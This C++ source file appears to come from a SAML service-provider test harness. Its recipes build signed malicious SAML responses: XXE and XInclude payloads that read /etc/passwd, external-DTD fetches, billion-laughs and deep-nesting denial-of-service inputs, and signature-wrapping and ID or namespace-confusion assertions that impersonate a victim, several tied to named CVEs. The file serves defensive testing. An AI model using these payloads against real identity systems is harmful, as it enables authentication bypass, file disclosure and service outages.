// XML-level attacks: DTDs and entities (DT-*, CI-5), namespaces (NS-*), ID
// confusion (ID-*), resource exhaustion (DS-*) and malformed bindings.
#include <string>

#include "attacks/mutation_util.hpp"
#include "attacks/recipes.hpp"
#include "core/bindings.hpp"

namespace samlh::idp::recipes {
namespace {

using namespace mut;
namespace ns = core::ns;

MutationResult<std::string> signed_xml(const MutationMaterial& m, SigningVariant v) {
  auto d = load(m.unsigned_xml);
  if (!d) return d.failure();
  if (auto st = sign_variant(*d, v, m); !st) return st.failure();
  return dump(*d);
}

// Inserts text right after the XML declaration (or at the start).
void after_declaration(std::string& xml, const std::string& text) {
  const auto end = xml.rfind("?>", 200);
  xml.insert(end == std::string::npos ? 0 : end + 3, text);
}

void replace_once(std::string& s, const std::string& from, const std::string& to) {
  const auto pos = s.find(from);
  if (pos != std::string::npos) s.replace(pos, from.size(), to);
}

std::string name_id_text(const MutationMaterial& m) {
  auto d = load(m.unsigned_xml);
  return d ? core::text(name_id(*d)) : std::string{};
}

MutationResult<Mutated> with_doctype(const MutationMaterial& m, const std::string& dtd, const std::string& name_id_ref,
                                   std::string note) {
  auto xml = signed_xml(m, m.variant);
  if (!xml) return xml.failure();
  after_declaration(*xml, dtd + "\n");
  if (!name_id_ref.empty()) replace_once(*xml, ">" + name_id_text(m) + "<", ">" + name_id_ref + "<");
  return one(std::move(xml).value(), std::move(note));
}

MutationResult<Mutated> edit_then_sign(const MutationMaterial& m, void (*edit)(Doc&, const MutationMaterial&),
                                     std::string note, SigningVariant v = SigningVariant::assertion) {
  auto d = load(m.unsigned_xml);
  if (!d) return d.failure();
  edit(*d, m);
  if (auto st = sign_variant(*d, v, m); !st) return st.failure();
  return one(dump(*d), std::move(note));
}

// An unsigned evil copy of the signed assertion, placed before it.
MutationResult<Doc> with_evil_twin(const MutationMaterial& m, bool keep_id, bool before = true) {
  auto d = load(m.unsigned_xml);
  if (!d) return d;
  if (auto st = sign_element(d->assertion, m.idp_key, m.sign_options); !st) return st.failure();
  xmlNode* evil = deep_copy(d->assertion);
  strip_signature(evil);
  if (!keep_id) remove_attr(evil, "ID");
  set_text(saml_child(saml_child(evil, "Subject"), "NameID"), m.victim);
  if (before) {
    xmlAddPrevSibling(d->assertion, evil);
  } else {
    xmlAddNextSibling(d->assertion, evil);
  }
  return d;
}

}  // namespace

// --- DT: any DOCTYPE is refused -------------------------------------------------
MutationResult<Mutated> dt1_doctype(const MutationMaterial& m) {
  return with_doctype(m, "<!DOCTYPE Response>", "", "DT-1: a harmless internal DOCTYPE");
}
MutationResult<Mutated> dt2_xxe(const MutationMaterial& m) {
  return with_doctype(m, "<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>", "&x;",
                      "DT-2 / CVE-2017-1000061: an external entity in the NameID");
}
MutationResult<Mutated> dt3_external_dtd(const MutationMaterial& m) {
  return with_doctype(m, "<!DOCTYPE r SYSTEM \"http://127.0.0.1:9/x.dtd\">", "", "DT-3: an external DTD");
}
MutationResult<Mutated> dt4_parameter_entity(const MutationMaterial& m) {
  return with_doctype(m, "<!DOCTYPE r [<!ENTITY % p SYSTEM \"http://127.0.0.1:9/p.dtd\"> %p;]>", "",
                      "DT-4 / CVE-2024-52596: a parameter entity");
}
MutationResult<Mutated> dt5_billion_laughs(const MutationMaterial& m) {
  std::string dtd = "<!DOCTYPE r [<!ENTITY l0 \"lol\">";
  for (int i = 1; i < 10; ++i) {
    dtd += "<!ENTITY l" + std::to_string(i) + " \"";
    for (int j = 0; j < 10; ++j) dtd += "&l" + std::to_string(i - 1) + ";";
    dtd += "\">";
  }
  dtd += "]>";
  return with_doctype(m, dtd, "&l9;", "DT-5: billion laughs in the NameID");
}
MutationResult<Mutated> dt6_quadratic_blowup(const MutationMaterial& m) {
  const std::string dtd = "<!DOCTYPE r [<!ENTITY a \"" + std::string(100000, 'a') + "\">]>";
  std::string refs;
  for (int i = 0; i < 50000; ++i) refs += "&a;";
  return with_doctype(m, dtd, refs, "DT-6: quadratic blowup (one 100 kB entity, 50 000 references)");
}
MutationResult<Mutated> dt7_attlist_namespace(const MutationMaterial& m) {
  auto xml = signed_xml(m, m.variant);
  if (!xml) return xml.failure();
  after_declaration(*xml, "<!DOCTYPE Response [<!ATTLIST Signature xmlns CDATA #FIXED \"http://www.w3.org/2000/09/xmldsig#\">]>\n");
  replace_once(*xml, "</saml2p:Status>", "<saml2p:StatusDetail><Signature/></saml2p:StatusDetail></saml2p:Status>");
  return one(std::move(xml).value(), "DT-7 / CVE-2025-25292: ATTLIST defaults the Signature namespace");
}
MutationResult<Mutated> dt8_attlist_id(const MutationMaterial& m) {
  auto xml = signed_xml(m, SigningVariant::assertion);
  if (!xml) return xml.failure();
  auto d = load(m.unsigned_xml);
  const std::string id = d ? core::attr(d->assertion, "ID") : "_A";
  after_declaration(*xml, "<!DOCTYPE Response [<!ATTLIST Evil Foo ID #IMPLIED>]>\n");
  replace_once(*xml, "</saml2:Issuer>", "</saml2:Issuer><Evil Foo=\"" + id + "\"/>");
  return one(std::move(xml).value(), "DT-8: a DTD declares another ID attribute with the assertion's value");
}
MutationResult<Mutated> dt9_doctype_round_trip(const MutationMaterial& m) {
  auto original = signed_xml(m, SigningVariant::assertion);
  if (!original) return original.failure();
  auto d = load(m.unsigned_xml);
  if (!d) return d.failure();
  set_text(name_id(*d), m.victim);
  std::string evil = core::serialize(d->doc.get(), false);
  const auto root_end = evil.rfind("</");
  const std::string end_tag = evil.substr(root_end);
  evil.erase(root_end);
  std::string orig = *original;
  if (orig.rfind("<?xml", 0) == 0) orig.erase(0, orig.find("?>") + 2);
  std::string xml = "<!DOCTYPE response SYSTEM 'x\"><!--'>" + evil + "<![CDATA[-->" + orig + "<!--]]>-->" + end_tag;
  return one(std::move(xml), "DT-9 / CVE-2025-25291: a DOCTYPE that parses differently on a round trip");
}
MutationResult<Mutated> dt10_xinclude(const MutationMaterial& m) {
  return edit_then_sign(
      m,
      [](Doc& d, const MutationMaterial&) {
        xmlNode* v = attribute_value(d, "email");
        if (v == nullptr) v = attribute_value(d, "firstName");
        if (v == nullptr) return;
        xmlNodeSetContent(v, nullptr);
        xmlNode* inc = new_element(v, "http://www.w3.org/2001/XInclude", "xi", "include");
        set_attr(inc, "href", "file:///etc/passwd");
        set_attr(inc, "parse", "text");
        xmlAddChild(v, inc);
      },
      "DT-10: an XInclude in an AttributeValue (never processed)");
}
MutationResult<Mutated> ci5_entity_in_name_id(const MutationMaterial& m) {
  return with_doctype(m, "<!DOCTYPE r [<!ENTITY e \".evil.test\">]>", m.victim + "&e;",
                      "CI-5: an entity reference splits the NameID");
}

// --- NS: namespaces ------------------------------------------------------------
MutationResult<Mutated> ns1_wrong_signature_namespace(const MutationMaterial& m) {
  auto d = load(m.unsigned_xml);
  if (!d) return d.failure();
  if (auto st = sign_element(d->assertion, m.idp_key, m.sign_options); !st) return st.failure();
  set_text(name_id(*d), m.victim);
  std::string xml = dump(*d);
  replace_once(xml, "<ds:Signature xmlns:ds=\"http://www.w3.org/2000/09/xmldsig#\"",
               "<ds:Signature xmlns:ds=\"http://www.w3.org/2000/09/xmldsig#x\"");
  return one(std::move(xml), "NS-1: the Signature in a look-alike namespace, assertion edited");
}
MutationResult<Mutated> ns2_evil_namespace_assertion(const MutationMaterial& m) {
  auto d = with_evil_twin(m, false);
  if (!d) return d.failure();
  xmlNode* evil = core::first_element(d->response);
  while (evil != nullptr && !(core::local_name(evil) == "Assertion" && core::attr(evil, "ID").empty())) {
    evil = core::next_element(evil);
  }
  if (evil == nullptr) return cannot("evil twin not found");
  xmlSetNs(evil, xmlNewNs(evil, core::as_xml("urn:evil"), core::as_xml("evil")));
  set_attr(evil, "ID", "_evil_ns_assertion");
  return one(dump(*d), "NS-2: an Assertion in another namespace next to the real one");
}
MutationResult<Mutated> ns3_default_namespace_twin(const MutationMaterial& m) {
  auto d = load(m.unsigned_xml);
  if (!d) return d.failure();
  if (auto st = sign_element(d->assertion, m.idp_key, m.sign_options); !st) return st.failure();
  xmlNode* evil = deep_copy(d->assertion);
  strip_signature(evil);
  set_attr(evil, "ID", "_default_ns_twin");
  set_text(saml_child(saml_child(evil, "Subject"), "NameID"), m.victim);
  std::string twin = core::serialize_node(evil);
  xmlFreeNode(evil);
  for (auto pos = twin.find("saml2:"); pos != std::string::npos; pos = twin.find("saml2:", pos)) twin.erase(pos, 6);
  replace_once(twin, "xmlns:saml2=", "xmlns=");
  std::string xml = dump(*d);
  const auto at = xml.find("<saml2:Assertion ");
  if (at == std::string::npos) return cannot("no saml2:Assertion start tag");
  xml.insert(at, twin);
  return one(std::move(xml), "NS-3: an evil default-namespace twin before the signed assertion");
}
MutationResult<Mutated> ns4_xml_xmlns_hiding(const MutationMaterial& m) {
  auto xml = signed_xml(m, SigningVariant::assertion);
  if (!xml) return xml.failure();
  replace_once(*xml, "<saml2p:Status",
               "<saml2p:Extensions><Parent xmlns=\"http://www.w3.org/2000/09/xmldsig#\"><Child xml:xmlns=\"#other\">"
               "<Signature/></Child></Parent></saml2p:Extensions><saml2p:Status");
  return one(std::move(xml).value(), "NS-4 / CVE-2025-66567: a signature hidden behind xml:xmlns in Extensions");
}
MutationResult<Mutated> ns5_invalid_namespace_uri(const MutationMaterial& m) {
  auto xml = signed_xml(m, SigningVariant::assertion);
  if (!xml) return xml.failure();
  replace_once(*xml, "<saml2:Assertion ", "<saml2:Assertion xmlns:example=\"http://example.com\xC2\x80\" ");
  return one(std::move(xml).value(), "NS-5 / CVE-2025-25292: a namespace URI with U+0080");
}
MutationResult<Mutated> ns6_unqualified_assertion(const MutationMaterial& m) {
  auto xml = signed_xml(m, SigningVariant::assertion);
  if (!xml) return xml.failure();
  replace_once(*xml, "<saml2:Assertion ", "<Assertion ID=\"_unqualified\"><Subject><NameID>" + m.victim +
                                              "</NameID></Subject></Assertion><saml2:Assertion ");
  return one(std::move(xml).value(), "NS-6: an Assertion in no namespace");
}
MutationResult<Mutated> ns7_undeclared_prefix(const MutationMaterial& m) {
  auto xml = signed_xml(m, m.variant);
  if (!xml) return xml.failure();
  replace_once(*xml, "</saml2p:Status>", "<foo:bar/></saml2p:Status>");
  return one(std::move(xml).value(), "NS-7 / CVE-2020-27846: an undeclared prefix");
}
MutationResult<Mutated> ns7_two_colons(const MutationMaterial& m) {
  auto xml = signed_xml(m, m.variant);
  if (!xml) return xml.failure();
  replace_once(*xml, "</saml2p:Status>", "<saml2p:a:b/></saml2p:Status>");
  return one(std::move(xml).value(), "NS-7: a qualified name with two colons");
}
MutationResult<Mutated> ns8_renamed_prefixes(const MutationMaterial& m) {
  std::string base = m.unsigned_xml;
  for (const auto& [from, to] : {std::pair<std::string, std::string>{"saml2p:", "proto:"}, {"saml2:", "asrt:"}}) {
    for (auto pos = base.find(from); pos != std::string::npos; pos = base.find(from, pos + to.size())) {
      base.replace(pos, from.size(), to);
    }
  }
  for (const auto& [from, to] : {std::pair<std::string, std::string>{"xmlns:saml2p=", "xmlns:proto="},
                                 {"xmlns:saml2=", "xmlns:asrt="}}) {
    for (auto pos = base.find(from); pos != std::string::npos; pos = base.find(from, pos + to.size())) {
      base.replace(pos, from.size(), to);
    }
  }
  MutationMaterial copy = m;
  copy.unsigned_xml = base;
  auto xml = signed_xml(copy, m.variant);
  if (!xml) return xml.failure();
  return one(std::move(xml).value(), "NS-8 (positive control): prefixes renamed consistently, then signed");
}
MutationResult<Mutated> ns8_reordered_attributes(const MutationMaterial& m) {
  auto xml = signed_xml(m, m.variant);
  if (!xml) return xml.failure();
  // c14n-invariant: attribute order and whitespace inside tags do not matter.
  auto d = load(*xml);
  if (!d) return d.failure();
  xmlAttr* first = d->assertion->properties;
  if (first != nullptr && first->next != nullptr) {
    xmlUnlinkNode(reinterpret_cast<xmlNode*>(first));
    xmlAttr* last = d->assertion->properties;
    while (last->next != nullptr) last = last->next;
    last->next = first;
    first->prev = last;
    first->next = nullptr;
    first->parent = d->assertion;
  }
  std::string out = dump(*d);
  replace_once(out, "<saml2:Subject>", "<saml2:Subject  \n >");
  return one(std::move(out), "NS-8 (positive control): attributes reordered, whitespace inside tags");
}

// --- ID: ID confusion ----------------------------------------------------------------
MutationResult<Mutated> id1_duplicate_before(const MutationMaterial& m) {
  auto d = with_evil_twin(m, true, true);
  if (!d) return d.failure();
  return one(dump(*d), "ID-1: an unsigned evil assertion with the same ID before the signed one");
}
MutationResult<Mutated> id1_duplicate_after(const MutationMaterial& m) {
  auto d = with_evil_twin(m, true, false);
  if (!d) return d.failure();
  return one(dump(*d), "ID-1: an unsigned evil assertion with the same ID after the signed one");
}
MutationResult<Mutated> id2_id_case(const MutationMaterial& m) {
  auto d = with_evil_twin(m, false);
  if (!d) return d.failure();
  xmlNode* evil = core::first_element(d->response);
  while (evil != nullptr && !(core::local_name(evil) == "Assertion" && !core::has_attr(evil, "ID"))) evil = core::next_element(evil);
  if (evil != nullptr) set_attr(evil, "Id", core::attr(d->assertion, "ID"));
  return one(dump(*d), "ID-2: the evil assertion carries Id (not ID) with the signed value");
}
MutationResult<Mutated> id3_assertion_id(const MutationMaterial& m) {
  auto d = with_evil_twin(m, false);
  if (!d) return d.failure();
  xmlNode* evil = core::first_element(d->response);
  while (evil != nullptr && !(core::local_name(evil) == "Assertion" && !core::has_attr(evil, "ID"))) evil = core::next_element(evil);
  if (evil != nullptr) set_attr(evil, "AssertionID", core::attr(d->assertion, "ID"));
  return one(dump(*d), "ID-3: a SAML 1.1 AssertionID with the signed value");
}
MutationResult<Mutated> id4_xml_id(const MutationMaterial& m) {
  auto d = with_evil_twin(m, false);
  if (!d) return d.failure();
  const std::string id = core::attr(d->assertion, "ID");
  std::string xml = dump(*d);
  replace_once(xml, "<saml2:Assertion xmlns", "<saml2:Assertion xml:id=\"" + id + "\" xmlns");
  return one(std::move(xml), "ID-4: xml:id with the signed value on the evil assertion");
}
MutationResult<Mutated> id5_attribute_pollution(const MutationMaterial& m) {
  auto xml = signed_xml(m, SigningVariant::response);
  if (!xml) return xml.failure();
  auto d = load(m.unsigned_xml);
  const std::string rid = d ? core::attr(d->response, "ID") : "_R";
  replace_once(*xml, "ID=\"" + rid + "\"", "ID=\"attack\" saml2p:ID=\"" + rid + "\"");
  return one(std::move(xml).value(), "ID-5 (The Fragile Lock): ID and saml2p:ID on the Response");
}
MutationResult<Mutated> id6_reference_case(const MutationMaterial& m) {
  auto xml = signed_xml(m, SigningVariant::assertion);
  if (!xml) return xml.failure();
  auto d = load(m.unsigned_xml);
  const std::string id = d ? core::attr(d->assertion, "ID") : "_A";
  std::string upper = id;
  for (char& c : upper) c = static_cast<char>(std::toupper(static_cast<unsigned char>(c)));
  replace_once(*xml, "URI=\"#" + id + "\"", "URI=\"#" + upper + "\"");
  return one(std::move(xml).value(), "ID-6: Reference URI differs from the ID only by case");
}
MutationResult<Mutated> id6_id_leading_space(const MutationMaterial& m) {
  auto xml = signed_xml(m, SigningVariant::assertion);
  if (!xml) return xml.failure();
  auto d = load(m.unsigned_xml);
  const std::string id = d ? core::attr(d->assertion, "ID") : "_A";
  replace_once(*xml, " ID=\"" + id + "\"", " ID=\" " + id + "\"");
  return one(std::move(xml).value(), "ID-6: the assertion ID with a leading space");
}
MutationResult<Mutated> id6_id_zero_width(const MutationMaterial& m) {
  auto xml = signed_xml(m, SigningVariant::assertion);
  if (!xml) return xml.failure();
  auto d = load(m.unsigned_xml);
  const std::string id = d ? core::attr(d->assertion, "ID") : "_A";
  replace_once(*xml, " ID=\"" + id + "\"", " ID=\"" + id + "\xE2\x80\x8B\"");
  return one(std::move(xml).value(), "ID-6: the assertion ID with a zero-width space");
}

// --- DS: size and depth ------------------------------------------------------------
MutationResult<Mutated> ds1_huge_post(const MutationMaterial&) {
  Mutated out;
  out.posts.push_back(Post{std::string(20 * 1024 * 1024, 'A'), Encoding::base64, std::nullopt});
  out.note = "DS-1: a 20 MB SAMLResponse";
  return out;
}
MutationResult<Mutated> ds3_deep_nesting(const MutationMaterial& m) {
  auto xml = signed_xml(m, m.variant);
  if (!xml) return xml.failure();
  std::string deep;
  for (int i = 0; i < 100000; ++i) deep += "<d>";
  for (int i = 0; i < 100000; ++i) deep += "</d>";
  replace_once(*xml, "</saml2p:Status>", deep + "</saml2p:Status>");
  return one(std::move(xml).value(), "DS-3: 100 000 nested elements");
}
MutationResult<Mutated> ds3_many_attributes(const MutationMaterial& m) {
  auto xml = signed_xml(m, m.variant);
  if (!xml) return xml.failure();
  std::string attrs;
  for (int i = 0; i < 100000; ++i) attrs += " a" + std::to_string(i) + "=\"x\"";
  replace_once(*xml, "<saml2p:Status", "<saml2p:Status" + attrs);
  return one(std::move(xml).value(), "DS-3: 100 000 attributes on one element");
}
MutationResult<Mutated> ds3_many_references(const MutationMaterial& m) {
  auto xml = signed_xml(m, SigningVariant::assertion);
  if (!xml) return xml.failure();
  const auto start = xml->find("<ds:Reference ");
  const auto end = xml->find("</ds:Reference>");
  if (start == std::string::npos || end == std::string::npos) return cannot("no Reference");
  const std::string ref = xml->substr(start, end + 15 - start);
  std::string many;
  for (int i = 0; i < 10000; ++i) many += ref;
  xml->replace(start, ref.size(), many);
  return one(std::move(xml).value(), "DS-3: 10 000 References");
}

// The same classes, sized to pass an SP's POST cap (512 KB in ours) so that
// the XML limits decide rather than the form cap that refuses the recipes
// above first.
MutationResult<Mutated> ds1_padded_300kb(const MutationMaterial& m) {
  auto xml = signed_xml(m, m.variant);
  if (!xml) return xml.failure();
  constexpr std::size_t kTotal = 300 * 1024;
  // Why spaces after the XML declaration: the prolog is outside every signed
  // element, so the signatures stay valid and only a byte limit can refuse
  // it; and the base64 of spaces ("ICAg") needs no percent-encoding, so the
  // form body stays near 410 KB.
  if (xml->size() < kTotal) after_declaration(*xml, std::string(kTotal - xml->size(), ' '));
  return one(std::move(xml).value(), "DS-1: a 300 KB response (whitespace after the XML declaration)");
}
MutationResult<Mutated> ds3_nesting_1000(const MutationMaterial& m) {
  auto xml = signed_xml(m, m.variant);
  if (!xml) return xml.failure();
  std::string deep;
  for (int i = 0; i < 1000; ++i) deep += "<d>";
  for (int i = 0; i < 1000; ++i) deep += "</d>";
  replace_once(*xml, "</saml2p:Status>", deep + "</saml2p:Status>");
  return one(std::move(xml).value(), "DS-3: 1 000 nested elements in Status (7 KB)");
}
MutationResult<Mutated> ds3_attributes_1000(const MutationMaterial& m) {
  auto xml = signed_xml(m, m.variant);
  if (!xml) return xml.failure();
  std::string attrs;
  for (int i = 0; i < 1000; ++i) attrs += " a" + std::to_string(i) + "=\"x\"";
  replace_once(*xml, "<saml2p:Status", "<saml2p:Status" + attrs);
  return one(std::move(xml).value(), "DS-3: 1 000 attributes on Status (10 KB)");
}

// --- encoding -------------------------------------------------------------------
MutationResult<Mutated> xml_latin1_declaration(const MutationMaterial& m) {
  auto xml = signed_xml(m, m.variant);
  if (!xml) return xml.failure();
  const auto decl_end = xml->find("?>");
  const auto enc = xml->find("encoding=\"UTF-8\"");
  if (decl_end == std::string::npos || enc == std::string::npos || enc > decl_end) return cannot("no UTF-8 declaration");
  // The bytes stay ASCII, so every signature still verifies: only the
  // declared encoding is wrong (a Latin-1 reader and a UTF-8 reader of the
  // same bytes may disagree on any non-ASCII value).
  xml->replace(enc, 16, "encoding=\"ISO-8859-1\"");
  return one(std::move(xml).value(), "XML declaration says encoding=\"ISO-8859-1\"");
}

// --- bindings -------------------------------------------------------------------
MutationResult<Mutated> binding_missing_saml_response(const MutationMaterial&) {
  Mutated out;
  // What an IdP set to another binding (Artifact, Redirect) or a proxy that
  // drops large fields delivers: a POST with RelayState and no message.
  out.posts.push_back(Post{"RelayState=%2Fapp", Encoding::form, std::nullopt});
  out.note = "binding: a POST with RelayState and no SAMLResponse";
  return out;
}
MutationResult<Mutated> binding_bad_base64(const MutationMaterial& m) {
  auto xml = signed_xml(m, m.variant);
  if (!xml) return xml.failure();
  std::string b64 = core::base64_encode(*xml);
  b64.insert(b64.size() / 2, "*");
  Mutated out;
  out.posts.push_back(Post{std::move(b64), Encoding::base64, std::nullopt});
  out.note = "binding: a character outside the base64 alphabet";
  return out;
}
MutationResult<Mutated> binding_repeated_field(const MutationMaterial& m) {
  auto xml = signed_xml(m, m.variant);
  if (!xml) return xml.failure();
  const std::string v = core::url_encode(core::base64_encode(*xml));
  Mutated out;
  out.posts.push_back(Post{"SAMLResponse=" + v + "&SAMLResponse=" + v, Encoding::form, std::nullopt});
  out.note = "binding: SAMLResponse given twice in the form";
  return out;
}

}  // namespace samlh::idp::recipes
